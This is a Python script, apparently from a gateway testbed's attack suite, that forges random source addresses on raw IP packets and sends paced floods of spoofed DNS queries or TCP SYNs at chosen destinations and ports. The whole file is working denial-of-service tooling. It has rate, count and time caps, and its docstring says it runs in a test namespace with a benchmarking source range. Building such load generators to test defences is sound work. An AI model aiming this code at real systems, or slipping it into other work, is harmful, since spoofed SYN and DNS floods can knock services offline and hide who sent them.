#!/usr/bin/env python3
"""Spoofed-packet sender for the attack suite (issue 8), run inside a test namespace as root.

  spoof.py dns --dst 100.64.1.130 --names a.gwa.demo,b.gwa.demo --rate 500 --count 20000 --seconds 30
  spoof.py syn --dst 100.64.1.131,100.64.1.132 --ports 22,5000 --rate 2000 --count 60000 --seconds 30

Every packet carries a random source address from --sources (CIDRs; default 198.18.0.0/15, the benchmarking
range: never a testbed address, never a martian the router would drop), a random source port and, for DNS, a
random ID and one of the names in turn (A, EDNS0 with a 1232-byte payload size, RD clear: what a resolver asks
an authoritative server). SYNs go to every destination address and port in turn, with a random sequence number.

Why Python and a raw socket: Node has no raw sockets, and hping3 (tried first) neither keeps a rate above about
1,300 packets/s (it sleeps between packets) nor rotates payloads or keeps sources in a range; an IPPROTO_RAW
socket crafts any source address (rp_filter is 0 in the testbed) and a paced loop holds thousands per second.

Bounded: stops after --count packets or --seconds, whichever comes first, and on SIGTERM/SIGINT; then prints
one JSON line {"sent", "seconds", "rate", "errors"} on stdout. Prints "sending" when the first packet is out.
"""
import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

MAX_COUNT = 10_000_000
MAX_SECONDS = 600
MAX_RATE = 100_000


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_header(src: bytes, dst: bytes, proto: int, payload_len: int) -> bytes:
    # With IPPROTO_RAW the kernel fills in the total length and the header checksum; the rest is ours.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, random.getrandbits(16), 0, 64, proto, 0, src, dst)


def dns_query(name: str) -> bytes:
    header = struct.pack("!HHHHHH", random.getrandbits(16), 0, 1, 0, 0, 1)
    qname = b"".join(bytes([len(l)]) + l.encode("ascii") for l in name.strip(".").split(".")) + b"\0"
    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 0)  # root owner, OPT, payload size, ext rcode/flags, no options
    return header + qname + struct.pack("!HH", 1, 1) + opt


def udp_packet(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes) -> bytes:
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, length)
    head = struct.pack("!HHHH", sport, dport, length, 0)
    csum = checksum(pseudo + head + payload) or 0xFFFF
    return ip_header(src, dst, 17, length) + struct.pack("!HHHH", sport, dport, length, csum) + payload


def syn_packet(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    # 24 bytes: the header and an MSS option, as a real SYN carries.
    head = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0) + struct.pack("!BBH", 2, 4, 1460)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(head))
    csum = checksum(pseudo + head)
    head = head[:16] + struct.pack("!H", csum) + head[18:]
    return ip_header(src, dst, 6, len(head)) + head


class Sources:
    """Uniform random addresses over the union of some CIDRs (network and broadcast addresses included: the
    gateway never answers them anyway, and excluding them would skew nothing measurable)."""

    def __init__(self, cidrs):
        self.nets = [ipaddress.ip_network(c, strict=False) for c in cidrs]
        if any(n.version != 4 for n in self.nets):
            raise ValueError("--sources: IPv4 CIDRs only")
        self.total = sum(n.num_addresses for n in self.nets)

    def pick(self) -> bytes:
        i = random.randrange(self.total)
        for n in self.nets:
            if i < n.num_addresses:
                return (n[i]).packed
            i -= n.num_addresses
        raise AssertionError("unreachable")


def parse_args(argv):
    p = argparse.ArgumentParser(description="spoofed DNS queries or TCP SYNs, paced and bounded")
    p.add_argument("kind", choices=["dns", "syn"])
    p.add_argument("--dst", required=True, help="comma list of destination addresses")
    p.add_argument("--ports", default="53", help="comma list of destination ports (dns: 53)")
    p.add_argument("--names", default="", help="dns: comma list of names asked in turn")
    p.add_argument("--sources", default="198.18.0.0/15", help="comma list of CIDRs for source addresses")
    p.add_argument("--rate", type=float, required=True, help="packets per second")
    p.add_argument("--count", type=int, required=True, help="stop after this many packets")
    p.add_argument("--seconds", type=float, required=True, help="stop after this many seconds")
    p.add_argument("--seed", type=int, default=None)
    a = p.parse_args(argv)
    if not (0 < a.rate <= MAX_RATE):
        p.error(f"--rate must be in (0, {MAX_RATE}]")
    if not (0 < a.count <= MAX_COUNT):
        p.error(f"--count must be in 1..{MAX_COUNT}")
    if not (0 < a.seconds <= MAX_SECONDS):
        p.error(f"--seconds must be in (0, {MAX_SECONDS}]")
    if a.kind == "dns" and not a.names:
        p.error("dns needs --names")
    return a


def main(argv) -> int:
    a = parse_args(argv)
    if a.seed is not None:
        random.seed(a.seed)
    try:
        dsts = [socket.inet_aton(d) for d in a.dst.split(",") if d]
        ports = [int(x) for x in a.ports.split(",") if x]
        sources = Sources([c for c in a.sources.split(",") if c])
    except (OSError, ValueError) as e:
        print(f"spoof.py: {e}", file=sys.stderr)
        return 2
    if not dsts or not ports or any(not 0 < x < 65536 for x in ports):
        print("spoof.py: need destinations and ports in 1..65535", file=sys.stderr)
        return 2
    names = [n for n in a.names.split(",") if n]
    queries = [dns_query(n) for n in names]  # templates: the ID is patched per packet

    stop = False

    def on_signal(_sig, _frame):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    announced = False
    while not stop and sent < a.count:
        now = time.monotonic()
        if now >= deadline:
            break
        due = min(a.count, int((now - t0) * a.rate) + 1)
        while sent < due:
            dst = dsts[sent % len(dsts)]
            src = sources.pick()
            sport = random.randrange(1024, 65536)
            if a.kind == "dns":
                q = queries[sent % len(queries)]
                payload = struct.pack("!H", random.getrandbits(16)) + q[2:]
                pkt = udp_packet(src, dst, sport, ports[(sent // len(dsts)) % len(ports)], payload)
            else:
                pkt = syn_packet(src, dst, sport, ports[(sent // len(dsts)) % len(ports)])
            try:
                sock.sendto(pkt, (socket.inet_ntoa(dst), 0))
            except OSError:
                errors += 1  # e.g. ENOBUFS under a burst: counted, never fatal
            sent += 1
        if not announced:
            print("sending", flush=True)
            announced = True
        # Sleep until the next packet is due (at least 0.2 ms: a busy loop would steal the core the gateway needs).
        next_due = t0 + sent / a.rate
        time.sleep(max(0.0002, min(0.01, next_due - time.monotonic())))
    seconds = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3), "rate": round(sent / seconds if seconds else 0, 1), "errors": errors}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
